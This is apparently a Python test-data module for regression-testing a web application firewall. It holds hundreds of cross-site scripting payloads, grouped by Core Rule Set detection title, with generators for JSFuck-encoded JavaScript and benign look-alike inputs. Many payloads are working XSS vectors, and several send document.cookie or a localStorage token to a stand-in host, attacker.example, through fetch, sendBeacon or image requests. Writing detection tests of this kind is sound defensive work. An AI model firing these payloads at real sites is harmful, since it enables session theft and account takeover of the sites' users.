"""Blind examples for cross-site scripting, written as a rule author writes a rule's positive tests: for each
XSS detection title of CRS 3.3.4 at paranoia levels 1-2 (and three request-rule titles CRS 4.x added), the
canonical attack, one payload per alternative the title's family covers (each tag, attribute, event, scheme,
sink and encoding of that family), then variants a good rule must still catch (case, whitespace and comment
substitutes, entity and URL encodings, quoting). 10 to 14 payloads per title, one sub-family per title:

  libinjection-xss (941100), libinjection-xss-pl2 (941101: URL path and Referer), script-tag (941110),
  event-handler (941120), attribute-vector (941130), javascript-uri (941140), disallowed-html-attributes
  (941150), noscript-html-injection (941160), noscript-attribute-injection (941170), node-validator-keywords
  (941180), us-ascii-malformed (941310: high-bit ASCII, sent as raw latin-1 bytes where a URL encoding
  carries it), utf7-encoding (941350), jsfuck-hieroglyphy (941360), js-global-variable (941370),
  html-tag-handler (941320), angularjs-csti (941380), crs4-js-method and crs4-js-no-parens (4.x titles), and
  the fourteen identical "IE XSS Filters" titles split by the IE8 filter families: ie-filters-style,
  -vmlframe, -obfuscated-javascript, -obfuscated-vbscript, -embed, -import, -meta-refresh, -meta-charset,
  -link, -base, -applet, -object, -js-string-sinks (quote break then location / name / onerror / valueOf),
  -js-string-assignment (quote break then a property assignment).

Placements: every payload is sent twice. Once into one of our real routes, rotating over the query of
/api/users, the admin search form (with csrf_token), the JSON of /api/users, a cookie, the User-Agent, the
Referer, another header (X-Client-Note), a parameter name, an XML body (CDATA), a multipart field or file name,
and the URL path (/api/users/<payload>). Once the way a WAF's regression suite sends it (placements prefixed
"rs-"): to a path that is not our route (/, /index.php, /get, /post, /search, /api/v1/items) under an
arbitrary parameter name (foo, var, x, test, id, arg1), as a query string, a form body, a JSON body, an XML body,
or in the User-Agent, the Referer, a custom header (X-Custom) or a cookie. A payload that cannot ride a header
(a line break) goes into the query instead, a file name with a quote into a multipart field.

Benign: the same words as people type them - Slack messages and bios about front-end work (chat_and_bio),
searches for jobs, products and places (script writer, window cleaning, base salary), prose typed into the
admin search, documentation links, names and addresses, browser User-Agents and Referers, XML and multipart
profile uploads, cookies.

Authorship and independence: written for this repository from general knowledge of XSS and from the rule
titles alone; no WAF rule, engine code, ruleset regression test or public payload list was read. Measured once
on unchanged code; payloads were not changed after seeing the results. Deterministic (no clock, no randomness).
"""

from __future__ import annotations

import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "fiftyfirst"


# --- JSFuck / Hieroglyphy builders (deterministic: only []()!+ or []{}()!+ characters) -------------------
def _num(n: int, one: str = "!+[]") -> str:
    if n == 0:
        return "+[]"
    if n == 1:
        return "+" + one
    return "+".join([one] * n)


def _idx(n: int) -> str:
    if n < 10:
        return _num(n)
    return "+".join(f"[{_num(int(d))}]" for d in str(n))


_BASES = {"false": "![]+[]", "true": "!![]+[]", "undefined": "[][[]]+[]", "NaN": "+[![]]+[]",
          "[object Object]": "[]+{}"}


def _char(c: str) -> str:
    for text, expr in _BASES.items():
        if c in text:
            return f"({expr})[{_idx(text.index(c))}]"
    raise ValueError(c)


def _word(s: str) -> str:
    return "+".join(_char(c) for c in s)


_FILTER = _word("filter")
_FN = f"([][{_FILTER}]+[])"     # "function filter() { [native code] }"
_OPEN, _CLOSE = f"{_FN}[{_idx(15)}]", f"{_FN}[{_idx(16)}]"
_ALERT1 = "+".join([_word("alert"), _OPEN, f"({_num(1)}+[])", _CLOSE])
_JSFUCK_FULL = f"[][{_FILTER}][{_word('constructor')}]({_ALERT1})()"


def _hiero(s: str) -> str:
    """Hieroglyphy-style letters: numbers as !![] sums, strings from {} and booleans."""
    bases = {"NaN": "+{}+[]", "false": "![]+[]", "true": "!![]+[]", "undefined": "[][[]]+[]",
             "[object Object]": "{}+[]"}
    parts = []
    for c in s:
        for text, expr in bases.items():
            if c in text:
                parts.append(f"({expr})[{_num(text.index(c), '!![]')}]")
                break
    return "+".join(parts)


# --- payloads, one list per detection title ---------------------------------------------------------------
SUBS: dict[str, list[str]] = {
    "libinjection-xss": [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "<svg/onload=alert(document.domain)>",
        "'><body onload=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<ScRiPt>prompt(1)</sCrIpT>",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        "\"><svg><script>alert(1)</script>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=\"alert(1)\">",
        "x\" onmouseover=\"alert(1)",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    ],
    "libinjection-xss-pl2": [
        "<script>alert(1)</script>",
        "\"><svg onload=alert(1)>",
        "<img src=x onerror=alert(document.cookie)>",
        "<iframe src=javascript:alert(1)>",
        "'><details open ontoggle=prompt(1)>",
        "<body onpageshow=alert(1)>",
        "<a href=javascript:alert(1)>x",
        "<ScRiPt>confirm(1)</ScRiPt>",
        "<marquee onstart=alert(1)>",
        "\"><input autofocus onfocus=alert(1)>",
        "<object data=javascript:alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    ],
    "script-tag": [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//attacker.example/x.js></SCRIPT>",
        "<script src=\"https://attacker.example/xss.js\"></script>",
        "<script type=\"text/javascript\">alert(1)</script>",
        "<script\t>alert(1)</script>",
        "<script\n>alert(1)</script\n>",
        "<script/xss>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<script>/*comment*/alert(1)</script>",
        "<script >document.location='https://attacker.example/?c='+document.cookie</script >",
        "\"></title><script>alert(1)</script>",
        "<script language=\"vbscript\">MsgBox 1</script>",
    ],
    "event-handler": [
        "<body onload=alert(1)>",
        "<img src=x onerror=alert(1)>",
        "<div onmouseover=\"alert(1)\">hover</div>",
        "<svg onload=alert(1)>",
        "<input onfocus=alert(1) autofocus>",
        "<a href=# onclick=\"alert(1)\">x</a>",
        "<marquee onstart=alert(1)>",
        "<details ontoggle=alert(1) open>",
        "<audio src=x onerror=alert(1)>",
        "<form onsubmit=alert(1)><button>go</button></form>",
        "<img src=x OnErRoR=alert(1)>",
        "<img src=x onerror\t=\talert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "\" onpointerenter=\"alert(1)\" x=\"",
    ],
    "attribute-vector": [
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a></svg>",
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        "<object data=\"data:text/html,<script>alert(1)</script>\">",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<form><button formaction=\"javascript:alert(1)\">x</button></form>",
        "<input type=text pattern=\"^a\" value=b oninvalid=alert(1) required>",
        "<!DOCTYPE x [<!ENTITY xss SYSTEM \"javascript:alert(1)\">]>",
        "<style>@import 'https://attacker.example/x.css';</style>",
        "<iframe src=\"data:text/html;charset=utf-8;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>",
        "<svg><use xlink:href=\"data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAv"
        "c3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x\"/></svg>",
        "<embed src=\"data:text/html,<script>alert(1)</script>\">",
        "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
        "<svg><a XLink:Href=\"javascript:alert(1)\">x</a></svg>",
        "<isindex formaction=\"javascript:alert(1)\" type=submit>",
    ],
    "javascript-uri": [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(document.cookie)",
        "javascript:void(document.location='https://attacker.example/?'+document.cookie)",
        " \tjavascript:alert(1)",
        "java\tscript:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
        "&#x6A;avascript:alert(1)",
        "javascript%3Aalert%281%29",
        "javascript://%0Aalert(1)",
        "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
        "<div style=\"background:url(javascript:alert(1))\">",
        "javascript:window['al'+'ert'](1)",
        "<div style=\"-moz-binding:url(https://attacker.example/xss.xml#x)\">",
    ],
    "noscript-html-injection": [
        "<iframe src=https://attacker.example></iframe>",
        "<object type=\"text/x-scriptlet\" data=\"https://attacker.example/x.sct\"></object>",
        "<embed src=\"https://attacker.example/x.swf\" allowscriptaccess=always>",
        "<form action=\"https://attacker.example/steal\" method=post><input name=pw type=password></form>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example\">",
        "<link rel=import href=\"https://attacker.example/x.html\">",
        "<base href=\"https://attacker.example/\">",
        "<applet code=\"Exploit.class\" codebase=\"https://attacker.example/\">",
        "<frameset><frame src=\"https://attacker.example\"></frameset>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<STYLE>li{list-style-image:url(\"javascript:alert(1)\")}</STYLE>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<iframe/src=//attacker.example>",
    ],
    "noscript-attribute-injection": [
        "\" onfocus=\"alert(1)\" autofocus=\"",
        "' onmouseover='alert(1)",
        "\" style=\"background:url(javascript:alert(1))",
        "\" href=\"javascript:alert(1)",
        "x\" src=\"javascript:alert(1)",
        "\"><a href=\"javascript:alert(1)\">x</a>",
        "' style='behavior:url(#default#time2)' onbegin='alert(1)",
        "\" formaction=\"javascript:alert(1)",
        "\" srcdoc=\"<script>alert(1)</script>",
        "\" background=\"javascript:alert(1)",
        "' onerror=alert(1) src='x",
        "\" action=\"javascript:alert(1)",
        "\" lowsrc=\"javascript:alert(1)",
        "\"   ONCLICK  =  \"alert(1)",
    ],
    "node-validator-keywords": [
        "document.cookie",
        "'+document.cookie+'",
        "document.write('<img src=//attacker.example/?c='+escape(document.cookie)+'>')",
        "this.parentNode.removeChild(this)",
        "document.body.innerHTML='pwned'",
        "window.location='https://attacker.example/'",
        "window.location.href=\"//attacker.example\"",
        "-moz-binding:url(\"https://attacker.example/xbl.xml#xss\")",
        "<!--<script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "DOCUMENT.COOKIE",
        "document /**/.cookie",
        "new Image().src='//attacker.example/?'+document.cookie",
        "--><script>alert(1)</script>",
    ],
    "ie-filters-style": [
        "<style>body{background:url(\"javascript:alert(1)\")}</style>",
        "<style>@import \"https://attacker.example/x.css\";</style>",
        "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>",
        "<style>div{width:expression(alert(1))}</style>",
        "<style>*{x:expression(document.location='//attacker.example')}</style>",
        "<style>a{background:url(&#106;avascript:alert(1))}</style>",
        "<style>body{-moz-binding:url(\"//attacker.example/x.xml#x\")}</style>",
        "<STYLE>.x{background-image:url(\"\\6a\\61\\76\\61\\73\\63\\72\\69\\70\\74\\3a alert(1)\")}</STYLE>",
        "<style >p{color:e\\xpression(alert(1))}</style>",
        "<style type=\"text/css\">body{behavior:url(//attacker.example/x.htc)}</style>",
        "<div style=\"x:expression(alert(1))\">",
        "<img style=\"xss:expr/*XSS*/ession(alert(1))\">",
        "<style>\n@import url(//attacker.example/a.css);\n</style>",
    ],
    "ie-filters-vmlframe": [
        "<v:vmlframe src=\"https://attacker.example/xss.vml#xss\"></v:vmlframe>",
        "<html xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:vmlframe src=\"//attacker.example/x.vml#a\">",
        "<x:vmlframe src=javascript:alert(1)>",
        "<v:vmlframe/src=\"data:text/html,<script>alert(1)</script>\">",
        "<V:VMLFRAME SRC=\"//attacker.example/a#b\">",
        "<v:vmlframe clip=true origin=0,0 src = \"http://attacker.example/vml.xml#x\">",
        "<vmlframe src=\"/uploads/evil.vml#x\">",
        "<v:vmlframe+src=//attacker.example/x.vml#a>",
        "<v:vmlframe\tsrc\t=\t\"//attacker.example/x#y\">",
        "<?xml:namespace prefix=\"v\" ns=\"urn:schemas-microsoft-com:vml\"?>"
        "<v:vmlframe src=\"//attacker.example/x#a\">",
        "&lt;v:vmlframe src=&quot;//attacker.example/x.vml#a&quot;&gt;",
        "<v:VmlFrame src='//attacker.example/x.vml#a'>",
    ],
    "ie-filters-obfuscated-javascript": [
        "j&#97;vascript:alert(1)",
        "&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)",
        "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
        "jav&#x09;ascript:alert(1)",
        "jav&#x0A;ascript:alert(1)",
        "jav&#x0D;ascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "javascript&#58;alert(1)",
        "JAVASCRIPT&#x3A;alert(1)",
        "<a href=\"&#106;avascript&#x3a;alert(1)\">x</a>",
        "java&Tab;script:alert(1)",
        "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)",
    ],
    "ie-filters-obfuscated-vbscript": [
        "vbscript:msgbox(1)",
        "VBScript:MsgBox(\"XSS\")",
        "vbs&#99;ript:msgbox(1)",
        "&#x76;&#x62;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;msgbox(1)",
        "vb&#x09;script:msgbox(1)",
        "vbscript&#58;alert(1)",
        "<a href=\"vbscript:msgbox(document.cookie)\">x</a>",
        "<img src=\"vbscript:msgbox('xss')\">",
        "vbscript:Execute(\"MsgBox 1\")",
        "&#118;&#98;&#115;&#99;&#114;&#105;&#112;&#116;&#58;msgbox(1)",
        "vb\tscript:msgbox(1)",
        "<iframe src=\"vbscript:window.location='//attacker.example'\">",
        "VbScRiPt:msgbox(1)",
    ],
    "ie-filters-embed": [
        "<embed src=\"https://attacker.example/xss.swf\">",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxl"
        "cnQoMSkiLz4=\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
        "<embed src=javascript:alert(1)>",
        "<embed code=\"https://attacker.example/x.swf\" allowscriptaccess=always>",
        "<embed/src=//attacker.example/x.swf>",
        "<embed\tsrc=\"//attacker.example/x.swf\">",
        "<EmBeD type=\"application/x-shockwave-flash\" src=\"//attacker.example/x.swf\">",
        "<embed src=\"x.svg\" onload=alert(1)>",
        "<embed width=1 height=1 src=\"data:text/html,<script>alert(1)</script>\">",
        "&lt;embed src=//attacker.example/x.swf&gt;",
        "<embed src=\"https://attacker.example/evil.pdf#FDF=javascript:alert(1)\">",
        "\"><embed src=//attacker.example/x.swf>",
    ],
    "ie-filters-import": [
        "<import implementation=\"https://attacker.example/x.htc\">",
        "<?import namespace=\"t\" implementation=\"#default#time2\">",
        "<IMPORT IMPLEMENTATION=\"//attacker.example/xss.htc\">",
        "<html xmlns:t=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\" implementation=\"#default#time2\">"
        "<t:set attributeName=\"innerHTML\" to=\"XSS<script>alert(1)</script>\">",
        "<?import namespace=\"x\" implementation=\"//attacker.example/x.htc\">",
        "<import/implementation=//attacker.example/a.htc>",
        "<ImPoRt implementation=\"#default#VML\">",
        "<import\timplementation=\"//attacker.example/x.htc\">",
        "&lt;?import implementation=&quot;//attacker.example/a.htc&quot;&gt;",
        "\"><?import namespace=\"v\" implementation=\"#default#VML\" ?>",
        "<import namespace=t implementation=#default#time2>",
        "<?IMPORT namespace='t' implementation='//attacker.example/t.htc'?>",
    ],
    "ie-filters-meta-refresh": [
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<meta http-equiv=\"Set-Cookie\" content=\"session=attacker\">",
        "<meta http-equiv=\"refresh\" content=\"0; URL=https://attacker.example/\">",
        "<meta http-equiv=refresh content=0;url=//attacker.example>",
        "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
        "<meta http-equiv=\"X-UA-Compatible\" content=\"IE=5\">",
        "<meta/http-equiv=\"refresh\"/content=\"0;url=//attacker.example\">",
        "<meta content=\"0;url=javascript:alert(1)\" http-equiv=\"refresh\">",
        "<MeTa HtTp-EqUiV=\"refresh\" content=\"1;url=//attacker.example\">",
        "<meta\thttp-equiv=\"refresh\" content=\"0;url=//attacker.example\">",
        "&lt;meta http-equiv=&quot;refresh&quot; content=&quot;0;url=//attacker.example&quot;&gt;",
        "<meta http-equiv=\"content-type\" content=\"text/html; charset=utf-7\">",
    ],
    "ie-filters-meta-charset": [
        "<meta charset=\"UTF-7\">",
        "<META CHARSET=utf-7>",
        "<meta charset=\"x-imap4-modified-utf7\">",
        "<meta charset=ISO-2022-JP>",
        "<meta charset=\"utf-7\" />+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<meta/charset=utf-7>",
        "<meta name=\"x\" charset=\"UTF-16\">",
        "<meta\tcharset=\"utf-7\">",
        "\"><meta charset=utf-7>",
        "<MeTa ChArSeT='UTF-7'>",
        "<meta content=\"text/html\" charset=\"us-ascii\">",
        "&lt;meta charset=&quot;utf-7&quot;&gt;",
    ],
    "ie-filters-link": [
        "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
        "<LINK REL=\"stylesheet\" HREF=\"https://attacker.example/xss.css\">",
        "<link rel=import href=//attacker.example/x.html>",
        "<link rel=\"preload\" href=\"//attacker.example/x.js\" as=\"script\">",
        "<link href=\"data:text/css,body{background:url(javascript:alert(1))}\" rel=stylesheet>",
        "<link/rel=stylesheet/href=//attacker.example/a.css>",
        "<link\trel=\"stylesheet\"\thref=\"//attacker.example/a.css\">",
        "<LiNk HrEf=\"//attacker.example/a.css\" rel=stylesheet>",
        "<link rel=\"icon\" href=\"javascript:alert(1)\">",
        "\"><link rel=stylesheet href=//attacker.example/x.css>",
        "&lt;link rel=stylesheet href=//attacker.example/x.css&gt;",
        "<link rel=\"alternate\" type=\"application/rss+xml\" href=\"javascript:alert(1)\">",
    ],
    "ie-filters-base": [
        "<base href=\"https://attacker.example/\">",
        "<BASE HREF=\"javascript:alert(1);//\">",
        "<base href=//attacker.example/>",
        "<base/href=//attacker.example>",
        "<base target=\"_blank\" href=\"https://attacker.example/x/\">",
        "\"><base href=\"//attacker.example/\">",
        "<base\thref=\"//attacker.example/\">",
        "<BaSe HrEf=//attacker.example/>",
        "<base href=\"data:text/html,<script>alert(1)</script>\">",
        "&lt;base href=&quot;//attacker.example/&quot;&gt;",
        "</title><base href=\"//attacker.example/\"><script src=\"app.js\"></script>",
        "<base href = \"//attacker.example/\" >",
    ],
    "ie-filters-applet": [
        "<applet code=\"Exploit.class\" codebase=\"https://attacker.example/\"></applet>",
        "<APPLET CODE=\"xss.class\" ARCHIVE=\"//attacker.example/x.jar\">",
        "<applet/code=x.class/codebase=//attacker.example/>",
        "<applet code=\"javascript:alert(1)\">",
        "<applet\tcode=\"x.class\">",
        "<ApPlEt code=x>",
        "<applet object=\"payload.ser\" codebase=\"//attacker.example/\">",
        "\"><applet code=x.class codebase=//attacker.example/>",
        "&lt;applet code=x.class&gt;",
        "<applet width=0 height=0 code=\"Payload\" archive=\"https://attacker.example/p.jar\">"
        "<param name=cmd value=calc></applet>",
        "<applet src=\"data:text/html,<script>alert(1)</script>\">",
        "<applet onload=alert(1)>",
    ],
    "ie-filters-object": [
        "<object data=\"https://attacker.example/xss.swf\"></object>",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://attacker.example/x.html\"></OBJECT>",
        "<object data=\"javascript:alert(1)\">",
        "<object classid=\"clsid:ae24fdae-03c6-11d1-8b76-0080c744f389\"><param name=url value=javascript:alert(1)>"
        "</object>",
        "<object/data=//attacker.example/x.swf>",
        "<object\tdata=\"//attacker.example/x.svg\">",
        "<ObJeCt data=//attacker.example/x>",
        "<object codebase=\"//attacker.example/\" classid=\"java:Exploit.class\">",
        "\"><object data=//attacker.example/x.swf>",
        "&lt;object data=//attacker.example/x.swf&gt;",
        "<object type=\"image/svg+xml\" data=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<object><param name=\"movie\" value=\"//attacker.example/x.swf\"><embed src=\"//attacker.example/x.swf\">"
        "</object>",
    ],
    "ie-filters-js-string-sinks": [
        "\";location='javascript:alert(1)';//",
        "';location.href='//attacker.example/?'+document.cookie;//",
        "\";name='alert(1)';eval(name)//",
        "\"+onerror=alert;throw 1;//",
        "';valueOf=alert;window+'';//",
        "\";onerror=eval;throw'=alert\\x281\\x29';//",
        "'-(location='//attacker.example')-'",
        "\" in(location='javascript:alert(1)')//",
        "';\\u006Cocation='javascript:alert(1)';//",
        "\";\\u006eame='x';//",
        "'  ;document.location='//attacker.example/?c='+document.cookie;'",
        "\"};window.onerror=alert;throw 1;//",
        "');location=name;//",
    ],
    "ie-filters-js-string-assignment": [
        "\";document.cookie='x=1';//",
        "';window.location.href='//attacker.example';//",
        "\"+document.body.innerHTML='pwned'+\"",
        "';top.location.href='//attacker.example';'",
        "\");document.domain='attacker.example';//",
        "'};self.location.hash='x';{'",
        "\";this.src='//attacker.example/x.js';//",
        "'; a.innerHTML = \"<img src=x onerror=alert(1)>\";//",
        "\"-parent.location='//attacker.example'-\"",
        "'|document.forms[0].action='//attacker.example/steal'|'",
        "\"  ;window.name='xss';//",
        "';Object.prototype.src='data:,alert(1)';//",
        "';img.src='//attacker.example/?'+document.cookie;'",
    ],
    "us-ascii-malformed": [
        "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be",
        "\u00bcimg src=x onerror=alert(1)\u00be",
        "\u00bcsvg onload=alert(1)\u00be",
        "\u00bciframe src=javascript:alert(1)\u00be",
        "\u00a2\u00be\u00bcscript\u00bealert(1)\u00bc/script\u00be",
        "\u00bcSCRIPT\u00bealert(1)\u00bc/SCRIPT\u00be",
        "\u00bcbody onload=alert(1)\u00be",
        "\u00bca href=\u00a2javascript:alert(1)\u00a2\u00bex\u00bc/a\u00be",
        "\u00a7\u00be\u00bcscript\u00bealert(1)\u00bc/script\u00be",
        "\u00bcscript src=//attacker.example/x.js\u00be\u00bc/script\u00be",
        "\u00bcimg src=\u00a2x\u00a2 onerror=\u00a2alert(document.cookie)\u00a2\u00be",
        "\u00bcdiv style=\u00a2x:expression(alert(1))\u00a2\u00be",
    ],
    "utf7-encoding": [
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-",
        "+ACIAPgA8-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-svg onload+AD0-alert(1)+AD4-",
        "+ACI- onmouseover+AD0AIg-alert(1)+ACI-",
        "+ADw-SCRIPT+AD4-alert(document.cookie)+ADw-/SCRIPT+AD4-",
        "+ADwAcwBjAHIAaQBwAHQAPg-alert(1)+ADwALwBzAGMAcgBpAHAAdAA+-",
        "+ADw-iframe src+AD0-javascript:alert(1)+AD4-",
        "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-a href+AD0AIg-javascript:alert(1)+ACIAPg-x+ADw-/a+AD4-",
        "+AD4APA-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-body onload+AD0-alert(1)+AD4-",
        "%2BADw-script%2BAD4-alert(1)%2BADw-/script%2BAD4-",
    ],
    "jsfuck-hieroglyphy": [
        _JSFUCK_FULL,
        f"[][{_FILTER}]",
        _word("alert"),
        f"[][{_FILTER}][{_word('constructor')}]({_word('return')}+([]+[])[{_num(0)}])",
        "(![]+[])[+[]]+(![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[!+[]+!+[]+!+[]]",
        _JSFUCK_FULL.replace("+", " + ").replace("][", "] ["),
        "\n".join(_JSFUCK_FULL[i:i + 200] for i in range(0, len(_JSFUCK_FULL), 200)),
        _hiero("alert"),
        f"({_hiero('constructor')})",
        "(+{}+[])[+!![]]+({}+[])[+!![]]+(!![]+[])[+[]]+(!![]+[])[+!![]]",
        f"<img src=x onerror=\"{_JSFUCK_FULL}\">",
        "[]['filter']['constructor']('alert(1)')()",
        f"{_word('alert')}+({_num(1)}+[])",
    ],
    "js-global-variable": [
        "window['alert'](1)",
        "window[\"al\"+\"ert\"](document.domain)",
        "self['ale'+'rt'](1)",
        "top[/al/.source+/ert/.source](1)",
        "parent['eval']('alert(1)')",
        "globalThis['alert'](1)",
        "this['alert'](1)",
        "frames[`alert`](1)",
        "window /*x*/ [ 'alert' ] ( 1 )",
        "document['cookie']",
        "window[atob('YWxlcnQ=')](1)",
        "window[String.fromCharCode(97,108,101,114,116)](1)",
        "self\n['alert'](1)",
        "top[\"doc\"+\"ument\"][\"coo\"+\"kie\"]",
    ],
    "disallowed-html-attributes": [
        "<div style=\"background-image:url(javascript:alert(1))\">",
        "<img src=\"javascript:alert(1)\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<img dynsrc=\"javascript:alert(1)\">",
        "<img lowsrc=\"javascript:alert(1)\">",
        "<table background=\"javascript:alert(1)\">",
        "<xml datasrc=\"#x\" datafld=\"a\" dataformatas=\"html\">",
        "<p style=x:expression(alert(1))>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
        "<IMG STYLE=\"xss:expr/*XSS*/ession(alert(1))\">",
        "<a HREF\t=\t\"//attacker.example\">",
        "<div style\n=\n\"behavior:url(//attacker.example/x.htc)\">",
        "<body background=\"javascript:alert(1)\">",
    ],
    "html-tag-handler": [
        "<a href=\"//attacker.example\">click</a>",
        "<b onmouseover=alert(1)>bold</b>",
        "<div id=x style=\"position:fixed;top:0;left:0;width:100%;height:100%\">",
        "<marquee>pwned</marquee>",
        "<table background=//attacker.example/x.png>",
        "<img src=//attacker.example/pixel.gif>",
        "<form action=//attacker.example/steal>",
        "<body bgcolor=red>",
        "<textarea autofocus onfocus=alert(1)>",
        "<select onchange=alert(1)><option>1</option></select>",
        "<blink>XSS</blink>",
        "<h1>hacked</h1>",
        "<SPAN STYLE=\"color:red\">x</SPAN>",
        "<button/onclick=alert(1)>",
    ],
    "angularjs-csti": [
        "{{constructor.constructor('alert(1)')()}}",
        "{{$on.constructor('alert(1)')()}}",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
        "{{x={'y':''.constructor.prototype};x['y'].charAt=[].join;$eval('x=alert(1)');}}",
        "{{[].pop.constructor('alert(1)')()}}",
        "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
        "[\"a\",\"alert(1)\"].sort(toString.constructor)}}",
        "{{$eval.constructor('alert(1)')()}}",
        "<div ng-app>{{ constructor.constructor(\"alert(document.cookie)\")() }}</div>",
        "{{ 7*7 }}",
        "<input ng-focus=$event.view.alert(1) autofocus>",
        "{{'a'.constructor.fromCharCode=[].join;'a'.constructor[0]='\\u003ciframe onload=alert(1)\\u003e';}}",
        "{{(_=''.sub).call.call({}[$='constructor'].getOwnPropertyDescriptor(_.__proto__,$).value,0,'alert(1)')()}}",
        "%7B%7Bconstructor.constructor('alert(1)')()%7D%7D",
        "{{  $on.constructor( 'alert(1)' )()  }}",
    ],
    "crs4-js-method": [
        "window.alert(1)",
        "document.write('<script src=//attacker.example/x.js><\\/script>')",
        "String.fromCharCode(88,83,83)",
        "eval(atob('YWxlcnQoMSk='))",
        "location.assign('javascript:alert(1)')",
        "setTimeout('alert(1)',0)",
        "Function('alert(1)')()",
        "fetch('https://attacker.example/?c='+document.cookie)",
        "navigator.sendBeacon('//attacker.example',localStorage.getItem('token'))",
        "document.createElement('script').src='//attacker.example/x.js'",
        "document.getElementById('x').insertAdjacentHTML('beforeend','<img src=x onerror=alert(1)>')",
        "alert(document.domain)",
        "confirm (1)",
        "window.open('//attacker.example/?'+document.cookie)",
    ],
    "crs4-js-no-parens": [
        "alert`1`",
        "onerror=alert;throw 1",
        "throw onerror=alert,1",
        "[1].find(alert)",
        "setTimeout`alert\\x281\\x29`",
        "location='javascript:alert%281%29'",
        "eval.call`${'alert\\x281\\x29'}`",
        "{onerror=alert}throw 1337",
        "x=alert,x`1`",
        "valueOf=alert;window+''",
        "toString=alert;window+''",
        "<svg onload=alert`1`>",
        "onerror=eval;throw'=alert\\x281\\x29'",
        "alert&#96;1&#96;",
    ],
}
# the rule each sub-family is written for (documentation only)
TITLE_OF = {
    "libinjection-xss": "941100", "libinjection-xss-pl2": "941101", "script-tag": "941110",
    "event-handler": "941120", "attribute-vector": "941130", "javascript-uri": "941140",
    "disallowed-html-attributes": "941150", "noscript-html-injection": "941160",
    "noscript-attribute-injection": "941170", "node-validator-keywords": "941180",
    "ie-filters-style": "941190", "ie-filters-vmlframe": "941200", "ie-filters-obfuscated-javascript": "941210",
    "ie-filters-obfuscated-vbscript": "941220", "ie-filters-embed": "941230", "ie-filters-import": "941240",
    "ie-filters-meta-refresh": "941250", "ie-filters-meta-charset": "941260", "ie-filters-link": "941270",
    "ie-filters-base": "941280", "ie-filters-applet": "941290", "ie-filters-object": "941300",
